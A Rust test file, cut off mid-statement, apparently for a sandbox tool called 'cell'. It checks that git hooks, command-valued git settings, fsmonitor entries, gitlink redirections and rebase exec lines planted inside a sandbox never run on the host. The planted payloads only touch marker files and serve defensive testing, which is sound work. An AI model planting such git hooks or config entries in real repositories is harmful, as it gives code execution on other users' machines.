//! The repository in a cell: git works inside on a real repository, the cell never writes
//! the host's git directory, its branches come back as `cell/<cell>/...` without running
//! anything the cell controls, and what it plants where host tools execute is set aside.

use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Command, Output};

use crate::both;
use crate::support::{exists, ok, show, stderr, stdout, wait_for, Host};

/// Host git as the host's user, in `dir`, with the test home (identity in the repo).
fn git_in(h: &Host, dir: &Path, args: &[&str]) -> Output {
    let mut c = Command::new("git");
    c.args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &h.home)
        .env("GIT_CONFIG_NOSYSTEM", "1");
    // The host's files belong to the account the cell runs as (as root: the `cell` account).
    if nix::unistd::geteuid().is_root() {
        c.uid(h.uid).gid(h.gid);
    }
    c.output().expect("git")
}

fn git(h: &Host, args: &[&str]) -> String {
    let o = git_in(h, &h.work, args);
    assert!(o.status.success(), "host git {args:?}: {}", show(&o));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// A repository with history, two branches and a submodule, owned by the host's user.
fn repo(h: &Host) {
    let lib = h.path("lib-src");
    std::fs::create_dir_all(&lib).expect("mkdir");
    h.chown_all();
    for (dir, args) in [
        (lib.as_path(), &["init", "-q", "-b", "main"][..]),
        (lib.as_path(), &["config", "user.name", "Lib"][..]),
        (lib.as_path(), &["config", "user.email", "lib@example.test"][..]),
    ] {
        assert!(git_in(h, dir, args).status.success());
    }
    std::fs::write(lib.join("lib.txt"), "lib 1\n").expect("write");
    h.chown_all();
    assert!(git_in(h, &lib, &["add", "."]).status.success());
    assert!(git_in(h, &lib, &["commit", "-qm", "lib 1"]).status.success());
    git(h, &["init", "-q", "-b", "main"]);
    git(h, &["config", "user.name", "Host User"]);
    git(h, &["config", "user.email", "host@example.test"]);
    for i in 1..=3 {
        std::fs::write(h.work.join(format!("f{i}")), format!("{i}\n")).expect("write");
        h.chown_all();
        git(h, &["add", "."]);
        git(h, &["commit", "-qm", &format!("c{i}")]);
    }
    git(h, &["branch", "side"]);
    let url = lib.to_str().expect("utf8").to_owned();
    git(h, &["-c", "protocol.file.allow=always", "submodule", "add", "-q", &url, "sub"]);
    git(h, &["commit", "-qm", "add sub"]);
    h.chown_all();
}

/// `cell run -- sh -c SCRIPT` with a config of its own.
fn cell_sh(h: &Host, script: &str) -> Output {
    h.run(["run", "--network", "none", "--", "sh", "-c", script])
}

/// [`cell_sh`] started in `dir` (a worktree other than the test's).
fn cell_sh_in(h: &Host, dir: &Path, script: &str) -> Output {
    h.cell().current_dir(dir).args(["run", "--network", "none", "--", "sh", "-c", script]).output().expect("run")
}

both!(git_works_in_a_cell_as_on_the_host, |h| {
    repo(h);
    let before = git(h, &["rev-parse", "main"]);
    let o = cell_sh(
        h,
        "set -e; git status --short; git log --oneline | grep -q c3; \
         echo more >> f1; git diff | grep -q '+more'; git add f1; git commit -qm inside; \
         git branch topic; git switch -q topic; echo t > t; git add t; git commit -qm topic; \
         git switch -q main; git merge -q --no-edit topic; git tag v1; \
         echo wip >> f2; git stash -q; git stash list | grep -q WIP; git stash pop -q; git checkout -- f2; \
         git switch -q side; git rebase -q main; git switch -q main; \
         git reset -q --hard HEAD; git log --format=%an | head -1; \
         git -C sub log --oneline | grep -q 'lib 1'; git submodule status | grep -q sub; \
         mkdir nested && git -C nested init -q && echo NESTED-OK; \
         echo DONE",
    );
    let out = ok(&o);
    assert!(out.contains("DONE") && out.contains("NESTED-OK"), "{}", show(&o));
    assert!(out.contains("Host User"), "the host's identity is the cell's: {out}");
    // The host repository: unchanged main, the cell's branches under cell/default/.
    assert_eq!(git(h, &["rev-parse", "main"]), before);
    let branches = git(h, &["branch", "--list", "cell/*"]);
    for b in ["cell/default/main", "cell/default/topic", "cell/default/side"] {
        assert!(branches.contains(b), "{b} not brought over: {branches}");
    }
    let log = git(h, &["log", "--format=%s", "cell/default/main"]);
    assert!(log.contains("inside") && log.contains("topic"), "{log}");
    let fsck = git_in(h, &h.work, &["fsck", "--no-progress", "--strict"]);
    assert!(fsck.status.success(), "the host repository is intact: {}", show(&fsck));
    // The tag stayed in the cell (only branches come over) and the nested repository was set aside.
    assert!(git(h, &["tag"]).trim().is_empty());
    assert!(!exists(&h.work.join("nested/.git")), "the nested .git was set aside");
    assert!(stderr_has(&o, "set aside"), "{}", show(&o));
    // `cell git log` and `cell git diff` show the cell's work.
    let l = ok(&h.run(["git", "log"]));
    assert!(l.contains("cell/default/main") && l.contains("inside"), "{l}");
    let d = ok(&h.run(["git", "diff", "main"]));
    assert!(d.contains("+more"), "{d}");
    // The branch by any of its names; an unknown one is a usage error naming the choices.
    for name in ["cell/default/main", "default/main"] {
        assert_eq!(ok(&h.run(["git", "diff", name])), d, "{name}");
    }
    let nope = h.run(["git", "diff", "nope"]);
    assert_eq!(nope.status.code(), Some(2), "{}", show(&nope));
    assert!(stderr_has(&nope, "cell/default/main"), "{}", show(&nope));
});

fn stderr_has(o: &Output, s: &str) -> bool {
    String::from_utf8_lossy(&o.stderr).contains(s)
}

/// Every command-valued git setting and every hook, planted in the cell's view.
const PLANT: &str = r#"
m=$PWD/.marker
for k in core.fsmonitor core.sshCommand core.pager core.editor sequence.editor diff.external \
         credential.helper gpg.program uploadpack.packObjectsHook core.alternateRefsCommand \
         filter.evil.clean filter.evil.smudge merge.evil.driver; do
  git config "$k" "touch $m-$k #"
done
git config core.hooksPath .git/hooks
git config core.fsmonitorHookVersion 2
mkdir -p .git/hooks .git/info
for hk in pre-commit post-commit post-checkout pre-push reference-transaction post-index-change \
          fsmonitor-watchman pre-auto-gc post-rewrite; do
  printf '#!/bin/sh\ntouch %s-hook-%s\n' "$m" "$hk" > .git/hooks/$hk; chmod +x .git/hooks/$hk
done
echo '* filter=evil merge=evil diff=evil' > .git/info/attributes
echo x >> f1 && git -c core.hooksPath=/dev/null commit -qam planted
rm -f $PWD/.marker*
echo PLANTED
"#;

both!(nothing_the_cell_plants_in_git_runs_on_the_host, |h| {
    repo(h);
    let config_before = std::fs::read(h.work.join(".git/config")).expect("config");
    let o = cell_sh(h, PLANT);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    assert_eq!(std::fs::read(h.work.join(".git/config")).expect("config"), config_before, "host .git/config");
    assert!(
        std::fs::read_dir(h.work.join(".git/hooks"))
            .expect("hooks")
            .flatten()
            .all(|e| e.file_name().to_string_lossy().ends_with(".sample")),
        "a hook reached the host"
    );
    // Host commands on the repository and every `cell git` command.
    std::fs::write(h.work.join("f3"), "host edit\n").expect("write");
    h.chown_all();
    for args in [
        &["status"][..],
        &["diff"],
        &["log", "-1", "-p", "cell/default/main"],
        &["add", "f3"],
        &["commit", "-qm", "host commit"],
        &["merge", "--no-edit", "-q", "cell/default/main"],
        &["gc", "-q"],
    ] {
        let _ = git_in(h, &h.work, args);
    }
    for args in [&["git", "sync"][..], &["git", "log"], &["git", "diff", "main"]] {
        let _ = h.run(args);
    }
    let markers: Vec<String> = std::fs::read_dir(&h.work)
        .expect("read")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".marker"))
        .collect();
    assert!(markers.is_empty(), "the host ran what the cell planted: {markers:?}");
    // The cell's commit did come over, as data.
    assert!(git(h, &["log", "--format=%s", "cell/default/main"]).contains("planted"));
});

both!(host_git_works_while_two_cells_run, |h| {
    repo(h);
    let spawn = |tag: &str| {
        h.cell()
            .args([
                "run",
                "--network",
                "none",
                "--",
                "sh",
                "-c",
                &format!("touch started-{tag}; sleep 4; git status --short >/dev/null && echo ok-{tag}"),
            ])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("spawn")
    };
    let a = spawn("a");
    let b = spawn("b");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !(h.work.join("started-a").exists() && h.work.join("started-b").exists()) {
        assert!(std::time::Instant::now() < deadline, "cells never started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let status = git(h, &["status", "--porcelain"]);
    assert!(
        !status.contains(".mcp.json") && !status.contains(".envrc") && !status.contains(".gitmodules "),
        "placeholders appeared: {status}"
    );
    git(h, &["config", "host.x", "1"]);
    git(h, &["remote", "add", "origin", "/nonexistent"]);
    std::fs::write(h.work.join("f2"), "host\n").expect("write");
    h.chown_all();
    git(h, &["commit", "-qam", "host while cells run"]);
    for (tag, c) in [("a", a), ("b", b)] {
        let o = c.wait_with_output().expect("wait");
        assert!(ok(&o).contains(&format!("ok-{tag}")), "{}", show(&o));
    }
    assert!(git(h, &["log", "-1", "--format=%s"]).contains("host while cells run"));
    assert!(git(h, &["config", "--get", "host.x"]).contains('1'));
    let left = git(h, &["status", "--porcelain", "--ignored"]);
    let left: Vec<&str> = left.lines().filter(|l| !l.contains("started-")).collect();
    assert!(left.is_empty(), "cells left files in the worktree: {left:?}");
});

both!(the_host_replacing_git_config_gives_the_cell_nothing, |h| {
    repo(h);
    let c = h
        .cell()
        .args([
            "run",
            "--network",
            "none",
            "--",
            "sh",
            "-c",
            "touch started; while [ ! -e go ]; do sleep 0.1; done; \
             printf '[core]\\n\\tfsmonitor = touch .marker-fsmonitor\\n' >> .git/config && echo WROTE-OWN-CONFIG; \
             echo x > .envrc 2>/dev/null && echo WROTE-ENVRC; true",
        ])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    wait_for(&h.work.join("started"));
    // git itself renames config.lock over config.
    git(h, &["config", "user.name", "Renamed Over"]);
    std::fs::write(h.work.join("go"), "").expect("write");
    h.chown_all();
    let o = c.wait_with_output().expect("wait");
    assert!(ok(&o).contains("WROTE-OWN-CONFIG"), "{}", show(&o));
    let config = std::fs::read_to_string(h.work.join(".git/config")).expect("config");
    assert!(!config.contains("fsmonitor") && config.contains("Renamed Over"), "{config}");
    let _ = git(h, &["status"]);
    assert!(!exists(&h.work.join(".marker-fsmonitor")), "host git ran the cell's fsmonitor");
});

both!(nested_repositories_and_gitlinks_are_set_aside, |h| {
    repo(h);
    let o = cell_sh(
        h,
        "set -e; mkdir -p vendor/lib/.x; echo 'gitdir: .x' > vendor/lib/.git; \
         printf 'ref: refs/heads/main\\n' > vendor/lib/.x/HEAD; mkdir -p vendor/lib/.x/objects vendor/lib/.x/refs; \
         printf '[core]\\n\\tfsmonitor = touch %s/.marker-nested\\n' \"$PWD\" > vendor/lib/.x/config; \
         git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),vendor/lib; git commit -qm gitlink; \
         (echo 'gitdir: ../vendor/lib/.x' > sub/.git) 2>/dev/null && echo WROTE-SUB; echo PLANTED",
    );
    let out = ok(&o);
    assert!(
        out.contains("PLANTED") && !out.contains("WROTE-SUB"),
        "a checked-out submodule's .git is held: {}",
        show(&o)
    );
    assert!(!exists(&h.work.join("vendor/lib/.git")), "the nested .git stayed");
    assert!(std::fs::read_to_string(h.work.join("sub/.git")).expect("sub").contains("modules/sub"));
    let _ = git(h, &["status"]);
    let _ = git_in(h, &h.work.join("vendor/lib"), &["status"]);
    assert!(!exists(&h.work.join(".marker-nested")), "host git ran the nested repository's fsmonitor");
    assert!(stderr_has(&o, "set aside"), "{}", show(&o));
});

/// Sleeps into the next whole second: a launch records its start in whole seconds, so
/// what the host made in the same second counts as the cell's.
fn after_this_second() {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("clock");
    std::thread::sleep(std::time::Duration::from_millis(1010 - u64::from(now.subsec_millis())));
}

/// Writes an executable script (as the host's user, with [`Host::chown_all`] after).
fn script(path: &Path, body: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(path, format!("#!/bin/sh\n{body}\n")).expect("write");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

both!(a_kept_nested_repository_loses_what_the_cell_planted_where_its_config_points, |h| {
    // A clone of the host's own in an ignored `vendor/lib` (not a submodule), and a bare
    // repository among the fixtures: host git works in both as in any other. Their git
    // directories are the host's (a change there sets the whole `.git` aside), but the
    // clone's config names files in the worktree: husky's relative hooks path, an
    // fsmonitor script, an included file whose alias runs a script; hook runners read their
    // files at its top; and the bare one runs its `hooks/` on a push.
    repo(h);
    std::fs::write(h.work.join(".git/info/exclude"), "vendor/\nfixtures/\n").expect("exclude");
    let lib = h.work.join("vendor/lib");
    std::fs::create_dir_all(&lib).expect("mkdir");
    h.chown_all();
    for args in [&["init", "-q", "-b", "main"][..], &["config", "user.name", "L"], &["config", "user.email", "l@x"]] {
        assert!(git_in(h, &lib, args).status.success());
    }
    script(&lib.join(".husky/_/pre-commit"), "exit 0");
    script(&lib.join("tools/fsmon.sh"), "exit 1");
    script(&lib.join("tools/st.sh"), "git status --short");
    std::fs::write(lib.join("shared.gitconfig"), "[alias]\n\tst = !./tools/st.sh\n").expect("write");
    std::fs::write(lib.join("README"), "lib\n").expect("write");
    h.chown_all();
    for args in [
        &["config", "core.hooksPath", ".husky/_"][..],
        &["config", "core.fsmonitor", "./tools/fsmon.sh"],
        &["config", "include.path", "../shared.gitconfig"],
        &["add", "."],
        &["commit", "-qm", "lib"],
    ] {
        let o = git_in(h, &lib, args);
        assert!(o.status.success(), "{args:?}: {}", show(&o));
    }
    let bare = h.work.join("fixtures/bare.git");
    std::fs::create_dir_all(bare.parent().expect("parent")).expect("mkdir");
    h.chown_all();
    let o = git_in(h, &h.work, &["init", "-q", "--bare", bare.to_str().expect("utf8")]);
    assert!(o.status.success(), "{}", show(&o));
    h.chown_all();
    after_this_second();
    let m = h.path("marker-kept");
    let mark = |what: &str| format!("touch {}-{what}", m.display());
    let o = cell_sh(
        h,
        &format!(
            "cd vendor/lib && printf '#!/bin/sh\\n{hook}\\n' > .husky/_/pre-commit && \
             printf '#!/bin/sh\\n{fsm}\\nexit 1\\n' > tools/fsmon.sh && \
             printf '#!/bin/sh\\n{alias}\\n' > tools/st.sh && \
             printf 'pre-commit:\\n  commands:\\n    x:\\n      run: {lefthook}\\n' > lefthook.yml && \
             printf '#!/bin/sh\\n{push}\\n' > ../../fixtures/bare.git/hooks/post-receive && \
             chmod +x ../../fixtures/bare.git/hooks/post-receive && echo 'the cell was here' >> README && echo PLANTED",
            hook = mark("hook"),
            fsm = mark("fsmonitor"),
            alias = mark("alias"),
            lefthook = mark("lefthook"),
            push = mark("push"),
        ),
    );
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    let err = stderr(&o);
    // The clone itself stays, with the cell's change to its files; what its config and the
    // tools name went aside.
    assert!(lib.join(".git/config").is_file(), "the kept clone's .git was set aside: {err}");
    assert!(std::fs::read_to_string(lib.join("README")).expect("README").contains("the cell was here"));
    for gone in [".husky", "tools/fsmon.sh", "tools/st.sh", "lefthook.yml"] {
        assert!(!exists(&lib.join(gone)), "vendor/lib/{gone} stayed: {err}");
        assert!(err.contains(&format!("vendor/lib/{gone} (")), "the report names vendor/lib/{gone}: {err}");
    }
    assert!(!exists(&bare.join("HEAD")), "the bare repository with the cell's hook stayed one: {err}");
    // Host git in the clone: status (fsmonitor), the alias, a commit (hooks).
    for args in [&["status"][..], &["st"], &["commit", "-qam", "host"]] {
        let _ = git_in(h, &lib, args);
    }
    let _ = git_in(h, &lib, &["push", "-q", bare.to_str().expect("utf8"), "main"]);
    for what in ["hook", "fsmonitor", "alias", "lefthook", "push"] {
        assert!(!exists(&h.path(&format!("marker-kept-{what}"))), "host git ran the cell's {what}: {err}");
    }
});

/// A host clone in `vendor/lib` (ignored by the top repository), made a second before the
/// cell starts; returns its path.
fn host_clone(h: &Host, config: &[&[&str]]) -> std::path::PathBuf {
    std::fs::write(h.work.join(".git/info/exclude"), "vendor/\n").expect("exclude");
    let lib = h.work.join("vendor/lib");
    std::fs::create_dir_all(&lib).expect("mkdir");
    std::fs::write(lib.join("README"), "lib\n").expect("write");
    h.chown_all();
    for args in [&["init", "-q", "-b", "main"][..], &["config", "user.name", "L"], &["config", "user.email", "l@x"]]
        .into_iter()
        .chain(config.iter().copied())
        .chain([&["add", "."][..], &["commit", "-qm", "lib"]])
    {
        let o = git_in(h, &lib, args);
        assert!(o.status.success(), "{args:?}: {}", show(&o));
    }
    h.chown_all();
    after_this_second();
    lib
}

both!(git_in_a_kept_nested_repository_does_not_cost_the_host_its_repository, |h| {
    // The cell works in the host's clone as an agent would: status (which rewrites the
    // index), a branch, a commit. The clone stays a repository, with the cell's commit; only
    // what could make host git run something (its config, hooks, a rebase's todo) would
    // have it set aside.
    repo(h);
    let lib = host_clone(h, &[]);
    let o = cell_sh(
        h,
        "set -e; cd vendor/lib; git status --short; git switch -q -c work; echo more >> README; \
         git commit -qam 'cell work'; git log --oneline | head -1; echo DONE",
    );
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    assert!(lib.join(".git/config").is_file(), "the clone's .git was set aside: {}", show(&o));
    let log = git_in(h, &lib, &["log", "--format=%s", "-1", "work"]);
    assert!(String::from_utf8_lossy(&log.stdout).contains("cell work"), "{}", show(&log));
    // A rebase left in progress with an `exec` line is an instruction: the clone goes.
    let m = h.path("marker-rebase");
    let o = cell_sh(
        h,
        &format!(
            "set -e; cd vendor/lib; mkdir -p .git/rebase-merge; echo 'exec touch {m}' > .git/rebase-merge/git-rebase-todo; echo DONE",
            m = m.display()
        ),
    );
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    assert!(!exists(&lib.join(".git")), "a .git with a rebase todo the cell wrote stayed: {}", show(&o));
});

both!(what_a_kept_nested_repository_names_through_links_and_its_worktree_setting_is_looked_at, |h| {
    // The clone's hooks path is a link of the host's to `.husky/_`; a second hooks path
    // lies in the directory its `core.worktree` names; an alias runs a script through a
    // shell's `cd`; its pager is `less ./` (a directory word, which must not send the whole
    // clone aside when the cell edits a file).
    repo(h);
    let lib = h.work.join("vendor/lib");
    std::fs::create_dir_all(lib.join(".husky/_")).expect("mkdir");
    std::os::unix::fs::symlink(".husky/_", lib.join("hooks")).expect("symlink");
    script(&lib.join("tools/st.sh"), "exit 0");
    let lib = host_clone(
        h,
        &[
            &["config", "core.hooksPath", "hooks"],
            &["config", "alias.st", "!cd tools && ./st.sh"],
            &["config", "core.pager", "less -R ./"],
        ],
    );
    let m = h.path("marker-linked");
    let o = cell_sh(
        h,
        &format!(
            "set -e; cd vendor/lib; printf '#!/bin/sh\\ntouch {m}-hook\\n' > .husky/_/pre-commit; chmod +x .husky/_/pre-commit; \
             printf '#!/bin/sh\\ntouch {m}-alias\\n' > tools/st.sh; echo edit >> README; echo DONE",
            m = m.display()
        ),
    );
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    let err = stderr(&o);
    assert!(lib.join(".git/config").is_file() && lib.join("README").is_file(), "the clone went aside whole: {err}");
    assert!(!exists(&lib.join(".husky/_/pre-commit")), "the hook reached through the host's link stayed: {err}");
    assert!(!exists(&lib.join("tools/st.sh")), "the alias's script stayed: {err}");
    let _ = git_in(h, &lib, &["commit", "-qam", "host"]);
    let _ = git_in(h, &lib, &["st"]);
    for what in ["hook", "alias"] {
        assert!(!exists(&h.path(&format!("marker-linked-{what}"))), "host git ran the cell's {what}: {err}");
    }
});

both!(the_host_config_is_read_as_git_reads_it, |h| {
    // A key on its section header's line, and a shell alias that runs a script by a bare
    // name and through `cd`: git takes all three, so the launch holds what they name.
    repo(h);
    script(&h.work.join("hk/pre-commit"), "exit 0");
    script(&h.work.join("st.sh"), "exit 0");
    script(&h.work.join("tools/st2.sh"), "exit 0");
    h.chown_all();
    let config = h.work.join(".git/config");
    let mut text = std::fs::read_to_string(&config).expect("config");
    text.push_str("[core] hooksPath = hk\n[alias]\n\tst = !sh st.sh\n\tst2 = \"!cd tools && ./st2.sh\"\n");
    std::fs::write(&config, text).expect("write");
    let o = cell_sh(
        h,
        "for f in hk/pre-commit st.sh tools/st2.sh; do (echo 'touch /tmp/x' >> $f) 2>/dev/null && echo WROTE-$f; done; echo DONE",
    );
    let out = ok(&o);
    assert!(out.contains("DONE") && !out.contains("WROTE"), "{}", show(&o));
});

both!(what_an_included_config_names_is_held, |h| {
    // The repository's config includes a file of the worktree (`include.path =
    // ../.gitconfig`, a common way to share settings), and that file sets the hooks path:
    // both are held, not only the included file.
    repo(h);
    std::fs::write(h.work.join(".gitconfig"), "[core]\n\thooksPath = githooks\n").expect("write");
    script(&h.work.join("githooks/pre-commit"), "exit 0");
    h.chown_all();
    git(h, &["config", "include.path", "../.gitconfig"]);
    let m = h.path("marker-included");
    let o = cell_sh(
        h,
        &format!(
            "(printf '#!/bin/sh\\ntouch {m}\\n' > githooks/pre-commit) 2>/dev/null && echo WROTE-HOOK; \
             (printf '#!/bin/sh\\ntouch {m}\\n' > githooks/post-commit && chmod +x githooks/post-commit) 2>/dev/null && echo WROTE-NEW; \
             echo DONE",
            m = m.display()
        ),
    );
    let out = ok(&o);
    assert!(out.contains("DONE") && !out.contains("WROTE-HOOK") && !out.contains("WROTE-NEW"), "{}", show(&o));
    let _ = git_in(h, &h.work, &["commit", "-q", "--allow-empty", "-m", "host"]);
    assert!(!exists(&m), "host git ran a hook the cell wrote: {}", show(&o));
});

/// [`repo`], with a submodule `sub/inner` inside the submodule `sub`, checked out.
fn repo_with_nested_submodule(h: &Host) {
    let inner = h.path("inner-src");
    std::fs::create_dir_all(&inner).expect("mkdir");
    h.chown_all();
    for args in [&["init", "-q", "-b", "main"][..], &["config", "user.name", "I"], &["config", "user.email", "i@x"]] {
        assert!(git_in(h, &inner, args).status.success());
    }
    std::fs::write(inner.join("i.txt"), "inner\n").expect("write");
    h.chown_all();
    assert!(git_in(h, &inner, &["add", "."]).status.success());
    assert!(git_in(h, &inner, &["commit", "-qm", "inner"]).status.success());
    let lib = h.path("lib-src");
    let url = inner.to_str().expect("utf8").to_owned();
    let file = ["-c", "protocol.file.allow=always"];
    repo(h);
    assert!(git_in(h, &lib, &[&file[..], &["submodule", "add", "-q", &url, "inner"]].concat()).status.success());
    assert!(git_in(h, &lib, &["commit", "-qm", "add inner"]).status.success());
    let sub = h.work.join("sub");
    assert!(git_in(h, &sub, &["pull", "-q", "origin", "main"]).status.success());
    git(h, &["commit", "-qam", "nested"]);
    git(h, &[&file[..], &["submodule", "update", "-q", "--init", "--recursive"]].concat());
    assert!(h.work.join("sub/inner/.git").is_file(), "the nested submodule is not checked out");
}

/// A repository of the cell's, in its home, whose fsmonitor leaves `marker` on the host.
fn cells_repository(marker: &Path) -> String {
    format!(
        "G=\"$HOME/evilgit\" && git init -q --bare \"$G\" && git --git-dir=\"$G\" config core.bare false && \
         git --git-dir=\"$G\" config core.fsmonitor 'touch {m}; false' && ",
        m = marker.display()
    )
}

both!(a_submodule_of_a_submodule_cannot_be_pointed_elsewhere, |h| {
    // Host `git status` at the top recurses into `sub`, and from there into `sub/inner`: a
    // cell that points `sub/inner/.git` at a repository of its own has host git run its
    // fsmonitor while the cell still runs.
    repo_with_nested_submodule(h);
    let before = std::fs::read_to_string(h.work.join("sub/inner/.git")).expect("gitfile");
    let marker = h.path("marker-nested-sub");
    let started = h.work.join("started");
    let stop = h.work.join("stop");
    let script = format!(
        "{r}(printf 'gitdir: %s\\n' \"$G\" > sub/inner/.git) 2>/dev/null && echo WROTE; \
         (mv sub/inner sub/inner2) 2>/dev/null && echo MOVED; touch started; while [ ! -e stop ]; do sleep 0.1; done",
        r = cells_repository(&marker)
    );
    let child = h
        .cell()
        .args(["run", "--network", "none", "--", "sh", "-c", &script])
        .stdout(std::process::Stdio::piped())
        .spawn();
    let child = child.expect("cell");
    wait_for(&started);
    let _ = git_in(h, &h.work, &["status"]);
    std::fs::write(&stop, "").expect("stop");
    h.chown_all();
    let o = child.wait_with_output().expect("wait");
    assert!(!stdout(&o).contains("WROTE") && !stdout(&o).contains("MOVED"), "{}", show(&o));
    assert!(!exists(&marker), "host git status ran the cell's fsmonitor: {}", show(&o));
    assert_eq!(std::fs::read_to_string(h.work.join("sub/inner/.git")).expect("gitfile"), before);
});

both!(a_submodule_not_checked_out_cannot_be_given_a_git_directory, |h| {
    // After `git submodule deinit` (or a clone without its submodules) `sub` is an empty
    // directory that host `git status` enters as soon as it holds a `.git`: a cell
    // recreating one in a loop outruns any watch. The directory is read-only instead.
    repo(h);
    git(h, &["submodule", "deinit", "-q", "-f", "sub"]);
    assert!(h.work.join("sub").is_dir() && !h.work.join("sub/.git").exists());
    let marker = h.path("marker-uninit-sub");
    let script = format!(
        "{r}(printf 'gitdir: %s\\n' \"$G\" > sub/.git) 2>/dev/null && echo CREATED; \
         (mkdir sub/x) 2>/dev/null && echo MADE; git status --short >/dev/null && echo STATUS",
        r = cells_repository(&marker)
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("STATUS"), "git in the cell works: {}", show(&o));
    assert!(!ok(&o).contains("CREATED") && !ok(&o).contains("MADE"), "the cell wrote in sub: {}", show(&o));
    let _ = git_in(h, &h.work, &["status"]);
    assert!(!exists(&marker), "host git status ran the cell's fsmonitor");
});

both!(every_git_entry_host_git_enters_is_held_wherever_the_cell_starts, |h| {
    // Host `git status` enters every gitlink of the index (with `.gitmodules` or without) and
    // you work in a registered linked worktree as in the repository: none of their `.git`
    // may be pointed elsewhere, from the top, or from a subdirectory holding them.
    repo(h);
    std::fs::create_dir_all(h.work.join("app")).expect("mkdir");
    h.chown_all();
    git(h, &["mv", "sub", "app/sub"]);
    git(h, &["commit", "-qm", "moved"]);
    git(h, &["worktree", "add", "-q", "wt/feat", "-b", "feat"]);
    std::fs::remove_file(h.work.join(".gitmodules")).expect("rm");
    let marker = h.path("marker-entered");
    let attempt = |dir: &Path, targets: &[&str]| {
        let mut script = cells_repository(&marker);
        for t in targets {
            script.push_str(&format!(
                "(printf 'gitdir: %s\\n' \"$G\" > {t}) 2>/dev/null && echo WROTE {t}; (mv {t} {t}.x) 2>/dev/null && echo MOVED {t}; "
            ));
        }
        script.push_str("echo DONE");
        let o = cell_sh_in(h, dir, &script);
        assert!(ok(&o).contains("DONE"), "{}", show(&o));
        assert!(!ok(&o).contains("WROTE") && !ok(&o).contains("MOVED"), "{}", show(&o));
    };
    attempt(&h.work, &["app/sub/.git", "wt/feat/.git"]);
    attempt(&h.work.join("app"), &["sub/.git"]);
    let _ = git_in(h, &h.work, &["status"]);
    let _ = git_in(h, &h.work.join("wt/feat"), &["status"]);
    assert!(!exists(&marker), "host git ran the cell's fsmonitor");
});

both!(hooks_a_submodule_or_linked_worktree_would_run_are_held_in_it, |h| {
    // A relative `core.hooksPath` is taken from the top of whichever worktree git runs in:
    // a submodule's own config (husky installed in it), or the repository's for a linked
    // worktree inside the cell's. A hook the cell puts there would run at your next commit
    // in it; it is set aside.
    repo(h);
    git(h, &["config", "core.hooksPath", ".husky/_"]);
    assert!(git_in(h, &h.work.join("sub"), &["config", "core.hooksPath", ".hooks"]).status.success());
    git(h, &["worktree", "add", "-q", "wt/feat", "-b", "feat"]);
    let marker = h.path("marker-sub-hook");
    let hook = format!("#!/bin/sh\\necho ran >> {}\\n", marker.display());
    let script = format!(
        "for d in sub/.hooks wt/feat/.husky/_; do mkdir -p $d && printf '{hook}' > $d/pre-commit && chmod 755 $d/pre-commit; done; \
         ls sub/.hooks/pre-commit wt/feat/.husky/_/pre-commit >/dev/null 2>&1 && echo PLANTED; sleep 0.2; echo DONE"
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    for p in ["sub/.hooks/pre-commit", "wt/feat/.husky/_/pre-commit"] {
        assert!(!exists(&h.work.join(p)), "{p} stayed: {}", show(&o));
    }
    for dir in [h.work.join("sub"), h.work.join("wt/feat")] {
        std::fs::write(dir.join("c.txt"), "c\n").expect("write");
        h.chown_all();
        let _ = git_in(h, &dir, &["add", "c.txt"]);
        let _ = git_in(h, &dir, &["commit", "-qm", "c"]);
    }
    assert!(!exists(&marker), "a hook the cell planted ran at a host commit");
});

both!(a_submodule_whose_directory_is_missing_gets_an_empty_one_held, |h| {
    // A gitlink in the index with no directory (a cell's commit merged with `cell git
    // merge` can bring one): host `git status` enters it as soon as a `.git` is there.
    repo(h);
    let head = git(h, &["rev-parse", "HEAD"]);
    git(h, &["update-index", "--add", "--cacheinfo", &format!("160000,{},lib/evil", head.trim())]);
    git(h, &["commit", "-qm", "a gitlink with no directory"]);
    assert!(!h.work.join("lib").exists());
    let marker = h.path("marker-missing-sub");
    let script = format!(
        "{r}(mkdir -p lib/evil && printf 'gitdir: %s\\n' \"$G\" > lib/evil/.git) 2>/dev/null && echo CREATED; \
         (mv lib lib2) 2>/dev/null && echo MOVED; echo DONE",
        r = cells_repository(&marker)
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    assert!(!ok(&o).contains("CREATED") && !ok(&o).contains("MOVED"), "{}", show(&o));
    assert!(h.work.join("lib/evil").is_dir(), "the empty directory git would leave is there");
    let _ = git_in(h, &h.work, &["status"]);
    assert!(!exists(&marker), "host git status ran the cell's fsmonitor");
});

both!(a_linked_worktrees_own_submodules_are_held, |h| {
    // A linked worktree inside has an index of its own, on its own branch: host `git
    // status` there enters its gitlinks, which the top's index may not have at all.
    repo(h);
    let head = git(h, &["rev-parse", "HEAD"]);
    git(h, &["checkout", "-q", "-b", "feat"]);
    git(h, &["update-index", "--add", "--cacheinfo", &format!("160000,{},lib", head.trim())]);
    git(h, &["commit", "-qm", "a gitlink on feat"]);
    git(h, &["checkout", "-q", "main"]);
    git(h, &["worktree", "add", "-q", "wt", "feat"]);
    let marker = h.path("marker-linked-sub");
    let script = format!(
